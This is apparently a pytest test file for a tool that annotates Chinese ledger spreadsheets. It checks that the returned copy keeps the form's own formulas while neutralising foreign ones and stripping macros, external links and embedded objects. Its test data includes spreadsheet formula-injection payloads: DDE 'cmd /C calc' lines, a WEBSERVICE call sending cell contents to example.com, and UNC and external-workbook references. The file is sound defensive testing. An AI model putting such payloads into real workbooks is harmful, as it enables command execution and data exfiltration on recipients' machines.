"""The marked copy that goes back carries the form's own formulas and nothing else that is alive."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import Rule
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from docgen.core.diagnostic import Diagnostic, Place
from docgen.ledgers.annotate import annotated
from docgen.ledgers.quieted import shape, shapes
from docgen.ruleset import find
from tests.ledgers.workbooks import FILLED_ROWS, filled, filled_form, issued, office, packed, parts, saved, table

OWN = shapes(issued())
LIVE = (
    "=cmd|'/C calc'!A0",
    "=DDE(\"cmd\",\"/c calc\",\"x\")",
    "=WEBSERVICE(\"http://example.com/?\"&A1)",
    "=_xlfn.WEBSERVICE(\"http://example.com\")",
    "=HYPERLINK(\"http://example.com\",\"点此\")",
    "=[1]Sheet1!$A$1",
    "='C:\\账\\[往来.xlsx]Sheet1'!A1",
    "='\\\\10.0.0.1\\账\\[往来.xlsx]Sheet1'!A1+1",
    "=SUM(A1:A3)",
    "=1+1",
    "=INDIRECT(\"A1\")",
    "=RTD(\"x\",,\"y\")",
)  # fmt: skip


def copy(data: bytes, *cells: str, name: str = "台账.xlsx") -> bytes:
    """The marked copy, with a problem in some cells of the ledger."""
    found = [Diagnostic(Place(name, sheet="排查台账", cell=cell), find("L202"), "error", "填错了") for cell in cells]
    return annotated(data, name, found, OWN)


def opened(data: bytes) -> Workbook:
    """A workbook as it stands."""
    return openpyxl.load_workbook(io.BytesIO(data))


def formulas(data: bytes) -> dict[str, str]:
    """The live formulas of cells, by sheet and address."""
    book = opened(data)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return {f"{cell.parent.title}!{cell.coordinate}": str(getattr(cell.value, "text", cell.value)) for cell in cells}


def whole(data: bytes) -> str:
    """All parts as text."""
    return "\n".join(part.decode("utf-8", "replace") for part in parts(data).values())


@pytest.mark.parametrize(
    ("formula", "issued_form"), [*((formula, False) for formula in LIVE), *((formula, True) for formula in LIVE[::5])]
)
def test_a_formula_of_the_unit_becomes_its_text_with_a_note(formula: str, issued_form: bool) -> None:
    data = filled(("排查台账", {**FILLED_ROWS, "C5": formula})) if issued_form else saved(table(["1", "甲", formula]))
    at = "C5" if issued_form else "C2"
    made = copy(data, at)
    cell: Any = opened(made)["排查台账"][at]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    assert "填错了" in cell.comment.text
    assert "公式" in cell.comment.text
    assert f"排查台账!{at}" in str(opened(made).worksheets[0]["A2"].value)
    assert f"排查台账!{at}" not in formulas(made)


def test_the_forms_own_formulas_stay_alive() -> None:
    data = filled(("排查台账", FILLED_ROWS), form=issued())
    before = formulas(data)
    made = copy(data, "C5")
    assert len(before) > 50
    assert formulas(made) == before
    assert opened(made).worksheets[0]["A2"].value is None


def test_they_stay_alive_also_where_another_program_saved_the_form() -> None:
    data = office({"台账.xlsx": filled_form()}, "xlsx")["台账"]
    before = formulas(data)
    assert len(before) > 50
    assert formulas(copy(data)).keys() == before.keys()


def test_they_stay_alive_where_rows_were_put_in() -> None:
    moved = "=IF(COUNT($C$5:$C$70)=0,\"\",SUM($C$5:$C$70))"  # fmt: skip
    made = copy(filled(("排查台账", {**FILLED_ROWS, "C60": moved}), form=issued()))
    assert formulas(made)["排查台账!C60"] == moved


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("=IF(COUNT($C$5:$C$9)=0,\"\",SUM(C5:C9))", "=if( count($C$6:$C$70) = 0, \"\", sum(C6:C70))"),
        ("=COUNTIF('甲表'!$G$6:$G$9,\"通过\")", "=COUNTIF(甲表!$G$6:$G$19,\"通过\")"),
        ("=IFERROR(OR(A1=\"\",B1>0),TRUE)", "=IFERROR(OR(A2=\"\",B2>0),TRUE())"),
        ("=LOG10(A1)", "=LOG10(B7)"),
    ],
)  # fmt: skip
def test_a_formula_has_one_shape_however_it_is_written(one: str, other: str) -> None:
    assert shape(one) == shape(other)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("=SUM(A1:A2)", "=SUM([1]甲!A1:A2)"),
        ("=SUM(A1:A2)", "=SUM('[1]甲'!A1:A2)"),
        ("=SUM(A1)", "=SUM(x|'/C calc'!A1)"),
        ("=IF(A1=\"甲\",1,2)", "=IF(A1=\"乙\",1,2)"),
        ("=SUM(A1)", "=SUM(A1)+WEBSERVICE(B1)"),
    ],
)  # fmt: skip
def test_a_formula_that_does_something_else_has_another_shape(one: str, other: str) -> None:
    assert shape(one) != shape(other)


def array(sheet: Any) -> None:
    sheet["C5"] = ArrayFormula("C5:C6", "=WEBSERVICE(\"http://example.com\")")  # fmt: skip


def link(sheet: Any) -> None:
    sheet["B5"].hyperlink = "file:///C:/example.com.xlsx"


def web_link(sheet: Any) -> None:
    sheet["B5"].hyperlink = "http://example.com/"


def name_outside(sheet: Any) -> None:
    sheet.parent.defined_names["往来"] = DefinedName("往来", attr_text="[1]example.com!$A$1")


def name_of_a_sheet(sheet: Any) -> None:
    sheet.defined_names["往来"] = DefinedName("往来", attr_text="EXEC(\"example.com\")")  # fmt: skip


def validation(sheet: Any) -> None:
    rule = DataValidation("list", formula1="[1]example.com!$A$1:$A$3")
    rule.add("C5")
    sheet.add_data_validation(rule)


def condition(sheet: Any) -> None:
    sheet.conditional_formatting.add("C5:C9", Rule("expression", formula=["[1]example.com!$A$1>0"]))


def chart(sheet: Any) -> None:
    made = BarChart()
    made.add_data(Reference(sheet, min_col=3, min_row=4, max_row=6), titles_from_data=True)
    made.series[0].val.numRef.f = "[1]example.com!$A$1:$A$3"
    sheet.add_chart(made, "J1")


def chart_of_a_named_book(sheet: Any) -> None:
    made = BarChart()
    made.add_data(Reference(sheet, min_col=3, min_row=4, max_row=6), titles_from_data=True)
    made.series[0].val.numRef.f = "'C:\\[example.com.xlsx]甲'!$A$1:$A$3"
    sheet.parent.create_chartsheet("图").add_chart(made)


def computed_table(sheet: Any) -> None:
    own = Table(displayName="表1", ref="J1:J3")
    own.tableColumns = [TableColumn(id=1, name="甲")]
    own.tableColumns[0].calculatedColumnFormula = TableFormula(attr_text="WEBSERVICE(\"example.com\")")  # fmt: skip
    sheet["J1"] = "甲"
    sheet.add_table(own)


THINGS: tuple[Callable[[Any], None], ...] = (
    array, link, web_link, name_outside, name_of_a_sheet, validation, condition, chart, chart_of_a_named_book, computed_table,
)  # fmt: skip


@pytest.mark.parametrize("thing", THINGS, ids=lambda thing: thing.__name__)
def test_what_reaches_out_of_the_book_does_not_travel(thing: Callable[[Any], None]) -> None:
    book = table(*([str(y), "甲", y] for y in range(1, 9)))
    thing(book["排查台账"])
    data = saved(book)
    assert "example.com" in whole(data)
    made = copy(data, "D5")
    told = str(opened(made).worksheets[0]["A2"].value)
    assert re.sub(r"\D", "", told.partition("（")[0])[:1] == "1"
    cells = {
        c.coordinate for row in opened(made)["排查台账"].iter_rows() for c in row if "example.com" in str(c.value)
    }
    assert cells == ({"C5"} if thing is array else set())
    rest = re.sub(
        r"<is>.*?</is>", "", "".join(part.decode() for name, part in parts(made).items() if "String" not in name)
    )
    assert "example.com" not in rest


def test_limits_names_lists_and_colours_of_the_form_stay() -> None:
    before, after = opened(issued()), opened(copy(issued()))
    for name in before.sheetnames:
        old, new = before[name], after[name]
        assert len(new.data_validations.dataValidation) == len(old.data_validations.dataValidation)
        assert [str(at.sqref) for at in new.conditional_formatting] == [
            str(at.sqref) for at in old.conditional_formatting
        ]
    assert set(after.defined_names) == set(before.defined_names)
    assert len(before.defined_names) > 3


EXTERNAL = {
    "xl/externalLinks/externalLink1.xml": "<externalLink/>", "xl/connections.xml": "<connections/>",
    "xl/queryTables/queryTable1.xml": "<queryTable/>", "xl/vbaProject.bin": "x", "xl/activeX/activeX1.xml": "<x/>",
    "xl/embeddings/oleObject1.bin": "x", "customXml/item1.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>",
}  # fmt: skip


def test_parts_that_fetch_or_run_are_not_in_the_copy() -> None:
    data = packed(
        {**parts(filled(("排查台账", FILLED_ROWS))), **{name: text.encode() for name, text in EXTERNAL.items()}}
    )
    with zipfile.ZipFile(io.BytesIO(copy(data, "C5"))) as made:
        assert set(EXTERNAL) & set(made.namelist()) == set()


def test_a_text_that_looks_like_a_formula_stays_a_text() -> None:
    book = table(["1", "甲", "x"])
    cell: Any = book.active["C2"] if book.active else None
    cell.value, cell.data_type = "=1+1", "s"
    made = copy(saved(book), "C2")
    assert formulas(made) == {}
    assert opened(made).worksheets[0]["A2"].value is None


def test_a_long_formula_is_looked_at_in_one_go() -> None:
    for piece in ("'a''", '"a""', "[1]", "A1,", "甲!", "$", "(", "."):
        formula = "=" + piece * (200_000 // len(piece))
        made: Any = opened(copy(saved(table(["1", "甲", formula[:32_000]]))))["排查台账"]["C2"]
        assert made.data_type == "s"
        assert shape(formula[:8000])


def test_many_formulas_are_told_in_number() -> None:
    data = saved(table(*([str(y), "甲", f"=A{y}+1"] for y in range(1, 701))))
    made = opened(copy(data))
    sheet = made["排查台账"]
    assert sum(cell.comment is not None for row in sheet.iter_rows() for cell in row) == 500
    assert "700" in str(made.worksheets[0]["A2"].value)
